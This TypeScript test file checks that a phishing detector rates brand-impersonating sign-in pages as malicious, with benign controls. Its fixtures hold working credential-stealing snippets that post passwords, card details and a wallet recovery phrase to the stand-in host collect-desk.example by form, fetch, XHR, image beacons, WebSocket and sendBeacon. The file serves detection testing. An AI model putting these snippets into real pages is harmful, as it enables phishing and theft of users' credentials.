/** Sign-in pages in the name of a company, in every container and by every way to send, and those of nobody beside them. */

import assert from 'node:assert/strict'
import { suite, test } from 'node:test'
import { useInspector } from '#inspect/testing/inspector.ts'

const { inspect } = useInspector()

/** The worst severity of a finding about a form. */
function severityOf(bytes: Buffer): string | undefined {
  const { findings, obstacle } = inspect(bytes)
  assert.equal(obstacle, null)
  const found = findings.filter(({ id }) => /\.(?:FalseLogin|Phishing|CredentialForm|SavedLogin)$/.test(id))
  return ['malicious', 'suspicious', 'notice'].find((each) => found.some(({ severity }) => severity === each))
}

const HOST = 'collect-desk.example'
const KIT = `https://${HOST}/in.php`
const FIELDS = '<input name="u" id="u"><input type="password" name="p" id="p"><button>OK</button>'

interface Way {
  action?: string
  script?: string
}

const onSubmit = (code: string): Way => ({
  script: `const f=document.getElementById("f");f.addEventListener("submit",function(e){e.preventDefault();var d=document.getElementById("p").value;${code}})`,
})
const WAYS: Record<string, Way> = {
  'a form': { action: KIT },
  'a request': onSubmit(`fetch("${KIT}",{method:"POST",body:d})`),
  'an older request': onSubmit(`var x=new XMLHttpRequest();x.open("POST","${KIT}");x.send(d)`),
  'a picture': onSubmit(`new Image().src="${KIT}?p="+encodeURIComponent(d)`),
  'a picture of a drawing': onSubmit(
    `var i=document.createElementNS("http://www.w3.org/2000/svg","image");i.setAttributeNS("http://www.w3.org/1999/xlink","href","${KIT}?p="+d)`,
  ),
  'a picture, by its attribute': onSubmit(`var i=document.createElement("img");i.setAttribute("src","${KIT}?p="+d)`),
  'a picture, of a list': onSubmit(
    `var q=[];q.push("p="+document.getElementById("p").value);new Image().src="${KIT}?"+q.join("&")`,
  ),
  'a socket': onSubmit(`new WebSocket("wss://${HOST}/s").send(d)`),
  'a beacon': onSubmit(`navigator.sendBeacon("${KIT}",d)`),
}

const page = (title: string, body: string, { action, script }: Way): string =>
  `<!DOCTYPE html><html><head><title>${title}</title></head><body>${body}<form id="f"${action === undefined ? '' : ` action="${action}" method="post"`}>${FIELDS}</form>${script === undefined ? '' : `<script>${script}</script>`}</body></html>`
const archive = (saved: string, html: string): string =>
  `From: <Saved by Blink>\r\nSnapshot-Content-Location: ${saved}\r\nSubject: Page\r\nMIME-Version: 1.0\r\nContent-Type: multipart/related; boundary="b"\r\n\r\n--b\r\nContent-Type: text/html; charset="utf-8"\r\nContent-Location: ${saved}\r\n\r\n${html}\r\n--b--\r\n`
const mail = (html: string): string =>
  `From: a@example.com\r\nTo: b@example.org\r\nSubject: Note\r\nMIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8\r\nContent-Transfer-Encoding: base64\r\n\r\n${Buffer.from(html).toString('base64')}\r\n`
const drawing = (title: string, { action, script }: Way): string =>
  `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><text x="1" y="1">${title}</text><foreignObject width="9" height="9"><form xmlns="http://www.w3.org/1999/xhtml" id="f"${action === undefined ? '' : ` action="${action}" method="post"`}><input name="u" id="u"/><input type="password" name="p" id="p"/></form></foreignObject>${script === undefined ? '' : `<script><![CDATA[${script}]]></script>`}</svg>`

const CONTAINERS: Record<string, (title: string, way: Way) => string> = {
  'a page': (title, way) => page(title, '', way),
  'a page for a server': (title, way) => `<!--#set var="a" value="b" -->\n${page(title, '', way)}`,
  'a web archive': (title, way) => archive('https://login.example/', page(title, '', way)),
  'a mail': (title, way) => mail(page(title, '', way)),
  'a drawing': drawing,
}

suite('a sign-in in the name of a company', () => {
  for (const [container, write] of Object.entries(CONTAINERS))
    for (const [name, way] of Object.entries(WAYS))
      test(`in ${container}, by ${name}`, () =>
        assert.equal(severityOf(Buffer.from(write('Microsoft 365', way))), 'malicious'))
})

test('a sign-in of nobody in particular is only suspicious', () => {
  for (const container of ['a page', 'a page for a server', 'a web archive', 'a mail'])
    for (const name of ['a form', 'a request', 'an older request', 'a socket'])
      assert.equal(severityOf(Buffer.from(CONTAINERS[container]!('Greenfield Choir', WAYS[name]!))), 'suspicious')
})

const form = (action: string, fields = FIELDS): string => `<form action="${action}" method="post">${fields}</form>`
const titled = (title: string, body: string): string =>
  `<!DOCTYPE html><html><head><title>${title}</title></head><body>${body}</body></html>`
const CARD = '<input name="card" placeholder="Card number"><input name="cvv" type="password"><input name="otp">'
const PARCEL = '<p>Your parcel is held: customs fee EUR 1.95. Pay within 24 hours or it will be returned.</p>'

suite('poses', () => {
  const pages: Record<string, string> = {
    'by the whole domain of a company': titled('@ WEB.DE - Postfach', form(KIT)),
    'by the domain in another zone': titled('mail.ru: вход', form(KIT)),
    'by its host, beside an office': titled(
      'Kakao',
      `<b>NAVER</b><p>국세청 안내</p>${form('https://naver-login.example/nid')}`,
    ),
    'by its host': titled('Sign in', `<h1>Netflix</h1>${form('https://netflix-account.example/in')}`),
    'in an archive of a host that was made for it': archive(
      'https://parcel-fee.example/pay/',
      titled('Parcel', PARCEL + form('https://parcel-fee.example/pay/2.php', CARD)),
    ),
    'and goes on whatever the server answers': titled(
      'Sign in',
      `<form id="f">${FIELDS}</form><script>f.onsubmit=function(){var x=new XMLHttpRequest();x.open("POST","${KIT}");x.onload=function(){location="https://portal.example/"};x.onerror=x.onload;x.send(new FormData(f))}</script>`,
    ),
    'and goes on after any request': titled(
      'Sign in',
      `<form id="f">${FIELDS}</form><script>f.onsubmit=function(){fetch("${KIT}",{method:"POST",body:new FormData(f)}).finally(()=>{location.href="https://portal.example/"})}</script>`,
    ),
    'for as many words as the reader chooses': titled(
      'Device',
      `<p>Restore it from the Secret Recovery Phrase. It never leaves this computer.</p><select id="n"><option>24</option></select><div id="g"></div><script>function draw(){for(var i=1;i<=+n.value;i++){var x=document.createElement("input");x.placeholder=i+".";g.appendChild(x)}}n.onchange=draw;draw();function go(){var m=document.createElement("form");m.action="${KIT}";m.submit()}</script>`,
    ),
  }
  for (const [name, content] of Object.entries(pages))
    test(name, () => assert.equal(severityOf(Buffer.from(content)), 'malicious'))
})

suite('does not pose', () => {
  const SSO = 'https://sso.hs-lindental.example/realms/main/authenticate'
  const pages: Record<string, [string | undefined, string]> = {
    'a sign-in of a school that names its mailbox': [
      'notice',
      titled(
        'Hochschule Lindental',
        `${form(SSO)}<p>Hilfe: service@hs-lindental.example</p><a href="/reset">Vergessen</a>`,
      ),
    ],
    'a sign-in of a school that names the mailbox of another': [
      'suspicious',
      titled('Hochschule Lindental', `${form(SSO)}<p>Hilfe: service@lindental.example</p>`),
    ],
    'an archive of a shop that takes cards': [
      'notice',
      archive(
        'https://www.greenfield-tea.example/pay',
        titled('Greenfield Tea', `<p>Your order: EUR 21.50</p>${form('https://www.greenfield-tea.example/pay', CARD)}`),
      ),
    ],
    'a page whose title has an address of its own': [
      'suspicious',
      titled('intranet.greenfield.example', form('https://sso.greenfield.example/login')),
    ],
    'a page on a host that anybody may have at a company': [
      'suspicious',
      titled('greenfield.github.io: sign in', form('https://sso.greenfield.example/login')),
    ],
    'a page that sets a link to what is entered': [
      'suspicious',
      titled(
        'Greenfield',
        `<form id="f">${FIELDS}</form><a id="r">Reset</a><script>f.onsubmit=function(){r.setAttribute("href","/reset?u="+u.value);fetch("${KIT}",{method:"POST",body:new FormData(f)})}</script>`,
      ),
    ],
    'an archive of a carrier where its readers sign in': [
      'notice',
      archive(
        'https://www.parcel-track.example/in',
        titled(
          'Parcel Track',
          `<p>See your parcels and their delivery.</p>${form('https://www.parcel-track.example/in')}`,
        ),
      ),
    ],
    'a page that offers the account of a company': [
      'suspicious',
      titled('Sign in with github.com', form('https://sso.greenfield.example/login')),
    ],
    'a firm that is called like a brand': [
      'suspicious',
      titled('Orange Grove School', form('https://orange-grove-login.example/in')),
    ],
    'a page that says when its request has failed': [
      'suspicious',
      titled(
        'Greenfield',
        `<form id="f">${FIELDS}</form><script>f.onsubmit=function(){fetch("${KIT}",{method:"POST",body:new FormData(f)}).then(()=>{location.href="/home"}).finally(()=>{f.className=""})}</script>`,
      ),
    ],
  }
  for (const [name, [severity, content]] of Object.entries(pages))
    test(name, () => assert.equal(severityOf(Buffer.from(content)), severity))
})
